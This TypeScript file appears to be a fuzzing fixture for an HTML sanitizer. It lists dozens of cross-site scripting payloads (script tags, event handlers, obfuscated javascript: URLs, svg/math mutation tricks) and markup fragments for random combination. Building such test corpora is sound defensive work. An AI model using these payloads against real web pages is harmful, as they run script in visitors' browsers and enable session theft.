/** HTML that gets past cleaners, and pieces to make more of. */
import { listed } from './listed.ts';

export const MARKUP: readonly string[] = [
  ...listed(String.raw`
    <script>alert(1)</script>  <script src=//a.example></script>  <scr<script>ipt>alert(1)</scr</script>ipt>
    <script/x>alert(1)</script >  </script><script>alert(1)</script>  <<script>alert(1)//<</script>  <script>alert(1)
    <svg><script>alert(1)</script></svg>  <svg onload=alert(1)>  <svg/onload=alert(1)//
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
    <svg><style><img src=x onerror=alert(1)></style></svg>  <svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
    <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
    <math><mi//xlink:href="data:x,<script>alert(1)</script>">
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>  <img src=x onerror=alert(1)>
    <img """><script>alert(1)</script>">  <IMG SRC=JaVaScRiPt:alert(1)>  <img src=x:alert(1) onerror=eval(src)>
    <img/src=x/onerror=alert(1)>  <p onmouseover=alert(1)>x</p>  <p/onclick=alert(1)>x  <p x="" onclick="alert(1)">x
    <p x='"' onclick=alert(1)>x  <p style="background:url(javascript:alert(1))">x</p>
    <p style=x:expression(alert(1))>x</p>  <style>@import "//a.example";</style>x
    <style><!--</style><script>alert(1)//--></script>  <link rel=stylesheet href=//a.example>
    <base href="javascript:alert(1)//">  <meta http-equiv=refresh content="0;url=javascript:alert(1)">
    <iframe src="javascript:alert(1)"></iframe>  <iframe srcdoc="<script>alert(1)</script>"></iframe>
    <object data="data:text/html,<script>alert(1)</script>"></object>  <embed src="javascript:alert(1)">
    <template><script>alert(1)</script></template>
    <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
    <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
    <title><p title="</title><img src=x onerror=alert(1)>"></title>
    <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>  <noembed><img src=x onerror=alert(1)></noembed>
    <plaintext><script>alert(1)</script>  <select><option><script>alert(1)</script></option></select>
    <table><td><script>alert(1)</script></table>  <!--><script>alert(1)</script>-->  <!--!><img src=x onerror=alert(1)>-->
    <!-- --!><img src=x onerror=alert(1)>  <![CDATA[<script>alert(1)</script>]]>
    <?xml version="1.0"?><script>alert(1)</script>  <!DOCTYPE html [<!ENTITY x "<script>">]>&x;
    <%script>alert(1)</%script>  </p onclick=alert(1)>  <a href="javascript:alert(1)">x</a>
    <a href=" javascript:alert(1)">x</a>  <a href="&#x6A;avascript:alert(1)">x</a>
    <a href="&#0000106avascript&colon;alert(1)">x</a>  <a href="javascript&#x3A;alert(1)">x</a>
    <a href="jav&NewLine;ascript:alert(1)">x</a>  <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
    <a href="vbscript:x">x</a>  <a href="file:///etc/passwd">x</a>  <a href="blob:https://a.example/1">x</a>
    <a href="feed:javascript:alert(1)">x</a>  <a href="//a.example">x</a>  <a href="/\a.example">x</a>
    <a href="https:javascript:alert(1)">x</a>  <a href="https://a.example" onclick=alert(1)>x</a>
    <a href="https://a.example" style="x:y">x</a>  <a href="https://a.example" href="javascript:alert(1)">x</a>
    <a href="https://a.example'"><p title="">x</a>  <a href='https://a.example"onclick="alert(1)'>x</a>
    <a/href="javascript:alert(1)">x</a>  <a ping=//a.example href=https://a.example>x</a>
    <a xlink:href="javascript:alert(1)">x</a>  <b id=x name=getElementById>x</b>
    <form action=javascript:alert(1)><button>x</form>  <input onfocus=alert(1) autofocus>
    <details open ontoggle=alert(1)>  <video><source onerror=alert(1)></video>  <marquee onstart=alert(1)>
    <isindex action=javascript:alert(1)>  <x onclick=alert(1)>x</x>  <x-y is="z" onclick=alert(1)>x</x-y>
    <scrıpt>alert(1)</scrıpt>  +ADw-script+AD4-alert(1)+ADw-/script+AD4-  \u003cscript\u003ealert(1)
    &lt;script&gt;alert(1)&lt;/script&gt;  &amp;lt;script&amp;gt;  &#60;img src=x onerror=alert(1)&#62;
    &notit; &lt &gt; &#x0; &#xd800; &#x110000; &#99999999999;  <b><i></b></i><p><ul></p><li>
  `),
  '<script\n>alert(1)</script\n>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p\nonclick\n=\nalert(1)>x',
  '<p\x0bonclick=alert(1)>x',
  '<p x=`>` onclick=alert(1)>x',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href=https://a.example/`onclick=alert(1)>x</a>',
  '<\0script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  `${'<b>'.repeat(90)}x`,
  `${'<p><a href="https://a.example">'.repeat(50)}x`,
  '<'.repeat(500),
  '&'.repeat(500),
];

/** Parts of HTML for random combination. */
export const PIECES: readonly string[] = [
  ...listed(String.raw`
    <  </  >  />  <!--  -->  <![CDATA[  ]]>  <?  <!  "  '  =  /  &  ;  script  style  svg  math  img  a  p  b  iframe
    template  noscript  textarea  title  table  pre  <a href="  <script>  </script>  <style>  </style>  <svg>  </svg>
    <math>  <textarea>  </textarea>  javascript:  https://a.example  data:text/html,  alert(1)  mailto:a@b.example  &lt;
    &#106;  &Tab;  &colon;  //  x  é
  `),
  '`',
  ' ',
  '\n',
  '	',
  '\0',
  '<p ',
  ' href=',
  ' onclick=',
  ' onerror=',
  ' style=',
  ' src=',
  ' srcdoc=',
  ' title="',
  '\\',
  '\u2028',
  '﻿',
];
